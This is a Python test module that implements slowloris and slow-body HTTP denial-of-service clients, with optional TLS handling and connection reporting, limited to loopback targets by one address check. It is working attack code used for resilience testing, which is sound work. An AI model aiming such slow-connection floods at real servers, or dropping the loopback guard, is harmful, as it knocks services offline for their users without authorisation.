"""Slow HTTP clients for denial-of-service tests on loopback: slowloris (headers that never
end) and slow bodies, opened at a bounded rate, held for a bounded time, always closed.

Each connection sends a partial request and then one more header line every
``trickle_interval`` seconds, the way slowloris keeps a server waiting; with ``tls`` it first
completes a TLS handshake (or, with ``tls_handshake=False``, connects to a TLS port and never
starts one). Nothing here is aimed anywhere but 127.0.0.0/8.
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import resource
import ssl
from dataclasses import dataclass, field

PARTIAL_HEADERS = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n"


@dataclass
class SlowAttackReport:
    """What an attack managed: connections opened, still open at the end, and refused."""

    opened: int = 0
    refused: int = 0
    dropped_by_server: int = 0
    peak_open: int = 0
    errors: dict[str, int] = field(default_factory=dict)


def raise_fd_limit(wanted: int) -> None:
    """Raise this process's open-file soft limit towards ``wanted`` (within the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))


async def slowloris(
    host: str,
    port: int,
    *,
    connections: int,
    rate: float,
    hold: float,
    trickle_interval: float = 2.0,
    tls: ssl.SSLContext | None = None,
    tls_handshake: bool = True,
    body: bool = False,
    source: str | None = None,
) -> SlowAttackReport:
    """Open ``connections`` slow connections at ``rate`` per second, keep each alive for at most
    ``hold`` seconds after the last one opened, then close them all.

    Args:
        body: send complete headers announcing a 10 MB upload, then trickle its bytes (a slow
            body) instead of never finishing the headers.
        source: the loopback address to connect from (one attacker), default the system's.
    """
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError("slow-client attacks are for loopback servers only")
    raise_fd_limit(connections + 256)
    report = SlowAttackReport()
    local = {"local_addr": (source, 0)} if source else {}
    writers: list[asyncio.StreamWriter] = []
    stop = asyncio.Event()

    async def one() -> None:
        try:
            if tls is not None and tls_handshake:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(
                        host, port, ssl=tls, server_hostname="localhost", **local
                    ),
                    10,
                )
            else:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(host, port, **local), 10
                )
        except (OSError, asyncio.TimeoutError, ssl.SSLError) as exc:
            report.refused += 1
            name = type(exc).__name__
            report.errors[name] = report.errors.get(name, 0) + 1
            return
        report.opened += 1
        writers.append(writer)
        report.peak_open = max(report.peak_open, len(writers))
        try:
            if tls is None or tls_handshake:
                if body:
                    writer.write(
                        b"POST /api/v1/parse HTTP/1.1\r\nHost: localhost\r\n"
                        b"Content-Type: image/png\r\nContent-Length: 10000000\r\n\r\n\x89PNG"
                    )
                else:
                    writer.write(PARTIAL_HEADERS)
            while not stop.is_set():
                with contextlib.suppress(asyncio.TimeoutError):
                    await asyncio.wait_for(stop.wait(), trickle_interval)
                if stop.is_set():
                    break
                if tls is None or tls_handshake:
                    writer.write(b"\0" * 16 if body else b"X-a: b\r\n")
                    await writer.drain()
                if reader.at_eof():
                    report.dropped_by_server += 1
                    break
        except (OSError, ssl.SSLError):
            report.dropped_by_server += 1
        finally:
            writers.remove(writer)
            writer.close()
            with contextlib.suppress(OSError, ssl.SSLError, asyncio.TimeoutError):
                await asyncio.wait_for(writer.wait_closed(), 2)

    tasks = []
    for _ in range(connections):
        tasks.append(asyncio.create_task(one()))
        await asyncio.sleep(1 / rate)
    await asyncio.sleep(hold)
    stop.set()
    await asyncio.gather(*tasks)
    return report
